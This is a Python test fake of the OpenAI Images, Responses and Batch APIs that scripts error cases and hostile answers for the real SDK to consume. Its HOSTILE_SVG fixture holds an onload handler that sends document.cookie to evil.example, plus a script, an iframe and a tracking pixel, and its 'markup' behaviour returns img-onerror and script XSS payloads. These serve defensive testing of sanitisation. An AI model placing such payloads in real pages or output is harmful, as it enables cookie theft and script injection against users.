"""A fake of the OpenAI Images API that speaks its HTTP protocol, for the real SDK to talk to.

It refuses what the real API refuses (images_contract.py: the published contract, with the real status
and error body), asks for the API key as the API does, and answers the real shapes: the quality and size
used (never "auto"), partial images of the size asked for, and usage by quality and size.

POST /v1/images/edits (multipart: the images, a mask or a markup) is checked against the edit contract
and answered the same way, with `image_edit.*` stream events and the input images in its usage.

Each POST /v1/images/generations or /edits takes the next scripted behaviour (or `default`):
  "b64"             JSON with base64 images of the size and format asked for, plus usage
  "url"             JSON with URLs to this server that expire after `url_ttl` seconds (403 after)
  "stream"          answered as SSE when the request says stream=true: partial images then completed
  "429"             one 429 with a short retry-after, then the next behaviour
  "500"             a server error
  "slow"            sleeps `slow_seconds` before answering b64 (past the client's timeout)
  "content_policy"  400 moderation_blocked
  "model_not_found" 404 model_not_found
  "wrong_size"      a valid PNG of the wrong size
  "not_image"       base64 of bytes that are no image
  "echo_key"        401 whose message repeats the API key it was sent (a careless compatible server)
  "redirect_url"    a URL to this server that redirects to another one
  "huge"            a 200 whose base64 image is `huge_bytes` long, written as it is made (JSON, or one
                    completed stream event when streaming): a hostile or broken compatible server
  "gzip"            a 200 whose body is gzip-compressed although the client asked for it as it is
  "hostile_svg"     for output_format=svg, the document in `hostile_svg` (scripts, links, entities...), billed
  "hostile_gif"     for output_format=gif, an animation of 17 frames (more than the API makes), billed

POST /v1/responses (the writing Director) is checked against tests/fakes/responses_contract.py and answered
as the next text behaviour (`text_default`, `text_script`): a structured rewrite made from the instructions'
keywords, or "not_schema", "huge", "markup", "echo", "refusal", "cut", "429", "500".

The Files and Batch APIs (/v1/files, /v1/batches: tests/fakes/batch_contract.py) take a JSONL file of
image requests and run it as a batch whose end (`batches.outcome`: completed, partial, failed, expired,
late) the test chooses; each line is checked and answered as its endpoint would be.

An SVG answer is a small vector drawing with `svg_usage` (the author's tokens) beside `usage`; a GIF answer
has `frame_count` frames (9 when omitted), its usage the output tokens of every frame.
"""

from __future__ import annotations

import base64
import email.policy
import gzip
import io
import json
import secrets
import threading
import time
from collections import deque
from email.parser import BytesParser
from functools import lru_cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

from PIL import Image

from tests.fakes import responses_contract
from tests.fakes.batch_contract import Batches, BatchRefusal
from tests.fakes.images_contract import (
    Refusal,
    check,
    check_edit,
    input_image_tokens,
    resolved_quality,
    resolved_size,
    usage,
)

PIL_FORMAT = {"png": "PNG", "jpeg": "JPEG", "webp": "WEBP"}
#: the SVG author's tokens the fake reports (reasoning counted apart, as the SDK's SvgUsage has it)
SVG_AUTHOR_TOKENS = {"input_tokens": 1200, "output_tokens": 2400, "reasoning_tokens": 800}
HOSTILE_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64" '
    b"onload=\"fetch('https://evil.example/steal?c='+document.cookie)\"><script>alert(document.domain)</script>"
    b'<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'
    b'</foreignObject><image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>'
    b'<circle cx="32" cy="32" r="24" fill="#e33"/></svg>'
)


def vector_bytes(size: str) -> bytes:
    width, height = (1024, 1024) if size in ("auto", "") else map(int, size.split("x"))
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}">'
        f'<rect width="{width}" height="{height}" rx="{width // 8}" fill="#2856c8"/>'
        f'<circle cx="{width // 2}" cy="{height // 2}" r="{min(width, height) // 4}" fill="#ffffff"/></svg>'
    ).encode()


@lru_cache(maxsize=8)
def animation_bytes(size: str, frames: int) -> bytes:
    width, height = (1024, 1024) if size in ("auto", "") else map(int, size.split("x"))
    pictures = [Image.new("RGB", (width, height), (20 * i % 255, 120, 200)).convert("P") for i in range(frames)]
    out = io.BytesIO()
    pictures[0].save(out, format="GIF", save_all=True, append_images=pictures[1:], duration=200, loop=0)
    return out.getvalue()


@lru_cache(maxsize=32)
def image_bytes(
    size: str, output_format: str = "png", color: tuple[int, int, int] = (40, 120, 200), photo_like: bool = False
) -> bytes:
    width, height = (1024, 1024) if size in ("auto", "") else map(int, size.split("x"))
    picture = Image.new("RGB", (width, height), color)
    for x in range(0, width, 64):
        picture.paste((x % 255, 80, 160), (x, 0, min(width, x + 16), height))
    if photo_like:  # grain, so the PNG weighs what a rendered photo does (megabytes, not kilobytes)
        grain = Image.effect_noise((width, height), 40).convert("RGB")
        picture = Image.blend(picture, grain, 0.35)
    out = io.BytesIO()
    picture.save(out, format=PIL_FORMAT[output_format])
    return out.getvalue()


def _error(message: str, *, code: str | None, kind: str = "invalid_request_error", param: str | None = None) -> dict:
    return {"error": {"message": message, "type": kind, "param": param, "code": code}}


def _multipart(content_type: str, raw: bytes) -> tuple[dict[str, Any], dict[str, list[bytes]]]:
    """A multipart/form-data body as the API reads it: text fields typed as the SDK wrote them (numbers,
    true/false), and files by field name."""
    message = BytesParser(policy=email.policy.HTTP).parsebytes(f"content-type: {content_type}\r\n\r\n".encode() + raw)
    fields: dict[str, Any] = {}
    files: dict[str, list[bytes]] = {}
    for part in message.iter_parts():
        name = part.get_param("name", header="content-disposition")
        payload = part.get_payload(decode=True) or b""
        if part.get_filename() is not None:
            files.setdefault(name, []).append(payload)
        else:
            fields[name] = _typed(payload.decode())
    return fields, files


def _multipart_named(content_type: str, raw: bytes) -> tuple[dict[str, Any], dict[str, list[bytes]], dict[str, str]]:
    """A multipart body's fields and files, and each file field's file name (the Files API reads it)."""
    fields, files = _multipart(content_type, raw)
    message = BytesParser(policy=email.policy.HTTP).parsebytes(f"content-type: {content_type}\r\n\r\n".encode() + raw)
    names = {part.get_param("name", header="content-disposition"): part.get_filename()
             for part in message.iter_parts() if part.get_filename() is not None}  # fmt: skip
    return fields, files, names


def _typed(value: str) -> Any:
    if value in ("true", "false"):
        return value == "true"
    return int(value) if value.isdigit() else value


def _usage_of(body: dict[str, Any], quality: str, size: str, n: int) -> dict[str, Any]:
    """Usage as the API reports it, with an edit's input images counted as image tokens."""
    frames = body.get("frame_count") or 9 if body.get("output_format") == "gif" else 1
    reported = usage(body["prompt"], quality, size, n * frames)
    sizes = body.get("_input_sizes") or []
    if sizes:
        images = input_image_tokens(sizes, body.get("input_fidelity"))
        reported["input_tokens"] += images
        reported["input_tokens_details"]["image_tokens"] = images
        reported["total_tokens"] += images
    return reported


class _QuietServer(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        pass  # a client that hung up on a slow answer is part of the script


class FakeImagesAPI:
    def __init__(self) -> None:
        self.default = "b64"
        self.api_key = "sk-test"
        self.script: deque[str] = deque()
        self.requests: list[dict[str, Any]] = []
        self.url_ttl = 3600.0
        self.slow_seconds = 5.0
        self.answer_delay = 0.0
        #: when set, every answer waits until this event is set (a test decides when the provider answers)
        self.gate: threading.Event | None = None
        #: when set, a stream waits for it after its first event (a test kills the client mid-answer)
        self.mid_stream: threading.Event | None = None
        self.photo_like = False
        #: the base64 length of a "huge" answer's image, and how much of it was written before the client left
        self.huge_bytes = 300 * 1024 * 1024
        self.huge_sent = 0
        #: the document a "hostile_svg" answer carries
        self.hostile_svg = HOSTILE_SVG
        #: what POST /v1/responses answers: "json" (a structured rewrite), "not_schema", "huge", "markup",
        #: "echo" (the instructions as the prompt), "refusal", "cut" (incomplete), "429", "500", and when
        #: streamed "stream_error" (an `error` event halfway); `text_delay` seconds pass between streamed deltas
        #: (and a whole answer waits as long as its deltas would have)
        self.text_default = "json"
        self.text_delay = 0.0
        self.text_script: deque[str] = deque()
        self.urls: dict[str, tuple[bytes, float]] = {}
        #: the Files and Batch APIs' uploads and batches (tests/fakes/batch_contract.py)
        self.batches = Batches()
        self.lock = threading.Lock()
        self.server = _QuietServer(("127.0.0.1", 0), self._handler())
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}/v1"

    def start(self) -> FakeImagesAPI:
        self.thread.start()
        return self

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def then(self, *behaviours: str) -> FakeImagesAPI:
        self.script.extend(behaviours)
        return self

    def reset(self) -> None:
        with self.lock:
            self.script.clear()
            self.requests.clear()
            self.default = "b64"
            self.url_ttl = 3600.0
            self.answer_delay = 0.0
            self.gate = None
            self.mid_stream = None
            self.api_key = "sk-test"
            self.huge_bytes = 300 * 1024 * 1024
            self.huge_sent = 0
            self.hostile_svg = HOSTILE_SVG
            self.text_default = "json"
            self.text_delay = 0.0
            self.text_script.clear()
        self.batches.reset()

    def next_text_behaviour(self) -> str:
        with self.lock:
            return self.text_script.popleft() if self.text_script else self.text_default

    def next_behaviour(self) -> str:
        with self.lock:
            return self.script.popleft() if self.script else self.default

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        api = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                if urlsplit(self.path).path.startswith(("/v1/files", "/v1/batches")):
                    return self._batch_api("GET")
                if urlsplit(self.path).path.endswith("/models"):
                    sent_key = self.headers.get("api-key") or self.headers.get("authorization", "").removeprefix(
                        "Bearer "
                    )
                    if sent_key != api.api_key:
                        return self._json(401, _error("Incorrect API key provided.", code="invalid_api_key"))
                    models = [{"id": m, "object": "model", "created": 1767225600, "owned_by": "openai"}
                              for m in ("gpt-image-2", "gpt-image-2.6-flare", "gpt-image-2.6-sunburst")]  # fmt: skip
                    return self._json(200, {"object": "list", "data": models})
                if self.path.startswith("/redirect/"):
                    target = "http://127.0.0.1:9/" + self.path.rsplit("/", 1)[-1]
                    return self._send(302, b"", "text/plain", {"location": target})
                token = self.path.rsplit("/", 1)[-1]
                found = api.urls.get(token)
                if not self.path.startswith("/files/") or found is None:
                    return self._json(404, {"error": {"message": "no such file", "code": "not_found"}})
                data, expires = found
                if time.time() > expires:
                    return self._send(403, b"<Error>Request has expired</Error>", "application/xml")
                self._send(200, data, "image/png")

            def do_POST(self) -> None:
                length = int(self.headers.get("content-length", 0))
                raw = self.rfile.read(length)
                if urlsplit(self.path).path.startswith(("/v1/files", "/v1/batches")):
                    return self._batch_api("POST", raw)
                editing = urlsplit(self.path).path.endswith("/images/edits")
                files: dict[str, list[bytes]] = {}
                if editing:
                    body, files = _multipart(self.headers.get("content-type", ""), raw)
                else:
                    body = json.loads(raw or b"{}")
                with api.lock:
                    api.requests.append({**body, "_path": self.path, "_files": {k: len(v) for k, v in files.items()}})
                if urlsplit(self.path).path.endswith("/responses"):
                    return self._text_answer(body)
                if not editing and not urlsplit(self.path).path.endswith("/images/generations"):
                    return self._json(404, {"error": {"message": "unknown path", "type": "invalid_request_error",
                                                      "param": None, "code": "not_found"}})  # fmt: skip
                sent_key = self.headers.get("api-key") or self.headers.get("authorization", "").removeprefix("Bearer ")
                if not sent_key:
                    return self._json(401, _error(
                        "You didn't provide an API key. You need to provide your API key in an Authorization header "
                        "using Bearer auth (i.e. Authorization: Bearer YOUR_KEY).", code=None))  # fmt: skip
                if sent_key != api.api_key:
                    return self._json(401, _error(
                        f"Incorrect API key provided: {sent_key[:3]}***{sent_key[-4:]}.", code="invalid_api_key"))  # fmt: skip
                if "/deployments/" in self.path and "model" not in body:
                    body["model"] = self.path.split("/deployments/")[1].split("/")[0]
                try:
                    check_edit(body, files) if editing else check(body)
                except Refusal as refusal:
                    return self._json(refusal.status, refusal.body)
                if editing:
                    images = files.get("image", []) + files.get("image[]", [])
                    body["_input_sizes"] = [Image.open(io.BytesIO(data)).size for data in images]
                behaviour = api.next_behaviour()
                if api.answer_delay:
                    time.sleep(api.answer_delay)
                if api.gate is not None:
                    api.gate.wait(30)
                if behaviour == "echo_key":
                    return self._json(401, _error(f"Invalid authentication: key {sent_key} is revoked.", code=None))
                if behaviour == "429":
                    return self._json(
                        429,
                        _error(
                            "Rate limit reached for images per minute.", code="rate_limit_exceeded", kind="requests"
                        ),
                        headers={"retry-after-ms": "20"},
                    )
                if behaviour == "500":
                    return self._json(
                        500,
                        _error(
                            "The server had an error while processing your request. Sorry about that!",
                            code=None,
                            kind="server_error",
                        ),
                    )
                if behaviour == "content_policy":
                    return self._json(
                        400,
                        {
                            "error": {
                                "message": "Your request was rejected by the safety system.",
                                "type": "image_generation_user_error",
                                "code": "moderation_blocked",
                                "param": None,
                            }
                        },
                    )
                if behaviour == "model_not_found":
                    return self._json(
                        404,
                        {
                            "error": {
                                "message": f"The model `{body.get('model')}` does not exist or you do not have access to it.",
                                "type": "invalid_request_error",
                                "code": "model_not_found",
                                "param": None,
                            }
                        },
                    )
                if behaviour == "slow":
                    time.sleep(api.slow_seconds)
                if behaviour.startswith("hostile_") and body.get("output_format") != behaviour.removeprefix("hostile_"):
                    behaviour = "b64"
                if behaviour == "huge":
                    return self._huge(bool(body.get("stream")), "image_edit" if editing else "image_generation")
                if behaviour == "gzip":
                    packed = gzip.compress(json.dumps(self._answer(body, "b64")).encode())
                    return self._send(200, packed, "application/json", {"content-encoding": "gzip"})
                if body.get("stream"):
                    return self._stream(body, behaviour, "image_edit" if editing else "image_generation")
                self._json(200, self._answer(body, behaviour))

            def _batch_api(self, method: str, raw: bytes = b"") -> None:
                """The Files and Batch APIs (batch_contract.py): upload, read, create, poll, cancel."""
                sent_key = self.headers.get("authorization", "").removeprefix("Bearer ")
                if sent_key != api.api_key:
                    return self._json(401, _error("Incorrect API key provided.", code="invalid_api_key"))
                parts = urlsplit(self.path).path.strip("/").split("/")[1:]  # after "v1"
                try:
                    if method == "POST" and parts == ["files"]:
                        fields, files, names = _multipart_named(self.headers.get("content-type", ""), raw)
                        return self._json(200, api.batches.upload(fields, files, names.get("file", "")))
                    if method == "GET" and len(parts) == 2 and parts[0] == "files":
                        return self._json(200, api.batches.file(parts[1]))
                    if method == "GET" and len(parts) == 3 and parts[::2] == ["files", "content"]:
                        return self._send(200, api.batches.content(parts[1]), "application/octet-stream")
                    if method == "POST" and parts == ["batches"]:
                        body = json.loads(raw or b"{}")
                        with api.lock:
                            api.requests.append({**body, "_path": self.path, "_files": {}})
                        return self._json(200, api.batches.create(body))
                    if method == "GET" and parts == ["batches"]:
                        return self._json(200, api.batches.listed())
                    if method == "GET" and len(parts) == 2 and parts[0] == "batches":
                        return self._json(200, api.batches.retrieve(parts[1], self._batch_line))
                    if method == "POST" and len(parts) == 3 and parts[::2] == ["batches", "cancel"]:
                        return self._json(200, api.batches.cancel(parts[1]))
                except BatchRefusal as refusal:
                    return self._json(refusal.status, refusal.body)
                return self._json(404, _error("unknown path", code="not_found"))

            def _batch_line(self, body: dict[str, Any], endpoint: str) -> tuple[int, dict[str, Any]]:
                """One line of a batch, checked and answered as the endpoint itself would."""
                try:
                    if endpoint == "/v1/images/generations":
                        check(body)
                    elif endpoint != "/v1/images/edits" or not body.get("prompt") or not body.get("images"):
                        raise Refusal(400, "This endpoint's lines are not answered here.", param=None, code=None)
                except Refusal as refusal:
                    return refusal.status, refusal.body
                return 200, self._answer(body, "b64")

            def _text_answer(self, body: dict[str, Any]) -> None:
                """POST /v1/responses: checked against its contract, then answered as the next text behaviour."""
                sent_key = self.headers.get("authorization", "").removeprefix("Bearer ")
                if sent_key != api.api_key:
                    return self._json(401, _error("Incorrect API key provided.", code="invalid_api_key"))
                try:
                    responses_contract.check(body)
                except Refusal as refusal:
                    return self._json(refusal.status, refusal.body)
                behaviour = api.next_text_behaviour()
                if behaviour == "429":
                    return self._json(429, _error("Rate limit reached for requests.", code="rate_limit_exceeded",
                                                  kind="requests"), headers={"retry-after-ms": "20"})  # fmt: skip
                if behaviour == "500":
                    return self._json(500, _error("The server had an error while processing your request.",
                                                  code=None, kind="server_error"))  # fmt: skip
                if behaviour == "refusal":
                    content = [{"type": "refusal", "refusal": "I can't help with that request."}]
                else:
                    text = {
                        "json": responses_contract.written(body),
                        "not_schema": "Sure! Here is a better prompt: a cat, cinematic.",
                        "huge": json.dumps({"prompt": "a cat " * 20_000, "additions": [], "reason": "long"}),
                        "markup": json.dumps({"prompt": "**a cat** <img src=x onerror=alert(1)> [link](https://evil.example)",
                                              "additions": [], "reason": "<script>alert(1)</script>"}),
                        "echo": json.dumps({"prompt": body.get("instructions") or "", "additions": [], "reason": "echo"}),
                    }.get(behaviour, responses_contract.written(body))  # fmt: skip
                    content = [{"type": "output_text", "text": text, "annotations": []}]
                status = "incomplete" if behaviour == "cut" else "completed"
                if body.get("stream"):
                    return self._text_stream(responses_contract.stream_events(body, content, status=status), behaviour)
                if api.text_delay:  # a model takes as long to write a whole answer as a streamed one
                    written = content[0].get("text") or content[0].get("refusal") or ""
                    time.sleep(-(-len(written) // responses_contract.DELTA_CHARS) * api.text_delay)
                self._json(200, responses_contract.response(body, content, status=status))

            def _text_stream(self, events: list[dict[str, Any]], behaviour: str) -> None:
                """A streamed answer, `api.text_delay` seconds between events; "stream_error" breaks off halfway
                with the API's `error` event."""
                self.send_response(200)
                self.send_header("content-type", "text/event-stream")
                self.send_header("cache-control", "no-cache")
                self.send_header("connection", "close")
                self.end_headers()
                if behaviour == "stream_error":
                    events = events[: len(events) // 2] + [
                        {"type": "error", "code": "server_error", "message": "The server had an error while "
                         "processing your request.", "param": None, "sequence_number": len(events) // 2}
                    ]  # fmt: skip
                for event in events:
                    self._event(event)
                    if event["type"].endswith(".delta") and api.text_delay:
                        time.sleep(api.text_delay)

            def _huge(self, streaming: bool, kind: str) -> None:
                if streaming:
                    head, tail = f'event: {kind}.completed\ndata: {{"type": "{kind}.completed", "b64_json": "', '"}\n\n'
                else:
                    head, tail = '{"created": 1, "data": [{"b64_json": "', '"}]}'
                self.send_response(200)
                self.send_header("content-type", "text/event-stream" if streaming else "application/json")
                self.send_header("content-length", str(len(head) + api.huge_bytes + len(tail)))
                self.end_headers()
                chunk = b"QUFB" * 16384
                try:
                    self.wfile.write(head.encode())
                    left = api.huge_bytes
                    while left > 0:
                        self.wfile.write(chunk[:left])
                        api.huge_sent += min(left, len(chunk))
                        left -= len(chunk)
                    self.wfile.write(tail.encode())
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client stopped reading: what it should do

            def _answer(self, body: dict[str, Any], behaviour: str) -> dict[str, Any]:
                size = resolved_size(body.get("size"))
                fmt = body.get("output_format") or "png"
                n = int(body.get("n") or 1)
                data = []
                for _ in range(n):
                    payload = self._payload(size, fmt, behaviour, int(body.get("frame_count") or 9))
                    if behaviour in ("url", "redirect_url"):
                        token = secrets.token_hex(8)
                        api.urls[token] = (payload, time.time() + api.url_ttl)
                        port = self.server.server_address[1]
                        folder = "redirect" if behaviour == "redirect_url" else "files"
                        data.append(
                            {
                                "url": f"http://127.0.0.1:{port}/{folder}/{token}",
                                "revised_prompt": "REVISED " + body["prompt"][:50],
                            }
                        )
                    else:
                        data.append({"b64_json": base64.b64encode(payload).decode()})
                answer: dict[str, Any] = {"created": int(time.time()), "data": data}
                if str(body.get("model", "")).startswith("gpt-image"):
                    quality = resolved_quality(body.get("quality"))
                    answer.update(
                        size=size,
                        quality=quality,
                        output_format=fmt,
                        background="transparent" if body.get("background") == "transparent" else "opaque",
                        usage=_usage_of(body, quality, size, n),
                    )
                    if fmt == "svg":
                        author = str((body.get("svg") or {}).get("model") or "gpt-5.5")
                        tokens = SVG_AUTHOR_TOKENS
                        total = sum(tokens.values())
                        answer["svg_usage"] = {**tokens, "model": author, "total_tokens": total}
                return answer

            def _payload(self, size: str, fmt: str, behaviour: str, frames: int = 9) -> bytes:
                if behaviour == "hostile_svg":
                    return api.hostile_svg
                if behaviour == "hostile_gif":
                    return animation_bytes(size, 17)
                if fmt == "svg" and behaviour not in ("not_image",):
                    return vector_bytes(size)
                if fmt == "gif" and behaviour not in ("not_image",):
                    return animation_bytes("512x512" if behaviour == "wrong_size" else size, frames)
                if behaviour == "wrong_size":
                    return image_bytes("512x512", fmt)
                if behaviour == "not_image":
                    return b"this is not an image at all"
                return image_bytes(size, fmt, photo_like=api.photo_like)

            def _stream(self, body: dict[str, Any], behaviour: str, kind: str) -> None:
                size = resolved_size(body.get("size"))
                fmt = body.get("output_format") or "png"
                quality = resolved_quality(body.get("quality"))
                self.send_response(200)
                self.send_header("content-type", "text/event-stream")
                self.send_header("cache-control", "no-cache")
                self.send_header("connection", "close")
                self.end_headers()
                common = {
                    "background": body.get("background", "auto"),
                    "created_at": int(time.time()),
                    "output_format": fmt,
                    "quality": quality,
                    "size": size,
                }
                # A partial image is the whole picture at an early stage: the size and format asked for.
                preview = base64.b64encode(image_bytes(size, fmt, (200, 200, 200))).decode()
                for index in range(int(body.get("partial_images") or 0)):
                    self._event(
                        {
                            "type": f"{kind}.partial_image",
                            "partial_image_index": index,
                            "b64_json": preview,
                            **common,
                        }
                    )
                for _ in range(int(body.get("n") or 1)):
                    self._event(
                        {
                            "type": f"{kind}.completed",
                            "b64_json": base64.b64encode(self._payload(size, fmt, behaviour)).decode(),
                            "usage": _usage_of(body, quality, size, 1),
                            **common,
                        }
                    )
                self.close_connection = True

            def _event(self, payload: dict[str, Any]) -> None:
                try:
                    self.wfile.write(f"event: {payload['type']}\ndata: {json.dumps(payload)}\n\n".encode())
                    self.wfile.flush()
                except (BrokenPipeError, ConnectionResetError):
                    return  # the client is gone
                if api.mid_stream is not None:
                    api.mid_stream.wait(30)

            def _json(self, status: int, payload: dict[str, Any], headers: dict[str, str] | None = None) -> None:
                self._send(status, json.dumps(payload).encode(), "application/json", headers)

            def _send(self, status: int, data: bytes, content_type: str, headers: dict[str, str] | None = None) -> None:
                self.send_response(status)
                self.send_header("content-type", content_type)
                self.send_header("content-length", str(len(data)))
                for name, value in (headers or {}).items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)

        return Handler


if (
    __name__ == "__main__"
):  # standalone for the app or a benchmark: [image answer delay] [text delta delay]; prints its URL
    import sys

    api = FakeImagesAPI()
    api.answer_delay = float(sys.argv[1]) if len(sys.argv) > 1 else 0.0
    api.text_delay = float(sys.argv[2]) if len(sys.argv) > 2 else 0.0
    api.start()
    print(api.base_url, flush=True)
    api.thread.join()
